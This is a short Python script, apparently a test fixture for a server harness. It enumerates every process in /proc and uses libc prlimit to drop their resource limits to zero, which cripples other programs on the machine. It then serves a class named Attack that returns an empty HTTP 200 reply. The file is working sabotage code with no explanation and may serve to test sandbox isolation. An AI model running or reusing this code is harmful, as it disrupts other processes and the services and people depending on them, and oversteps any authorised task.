import ctypes
import os

import server


libc = ctypes.CDLL(None, use_errno=True)
DONE = []
for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    for kind in range(16):
        if pid != os.getpid() and kind != 0:
            limit = (ctypes.c_ulong * 2)(0, 0)
            if libc.prlimit(pid, kind, ctypes.byref(limit), None) == 0:
                DONE.append(kind)
print("limits set:", len(DONE), flush=True)


class Attack(server.Broken):
    def answer(self):
        self.reply(200, {})


server.serve(Attack)
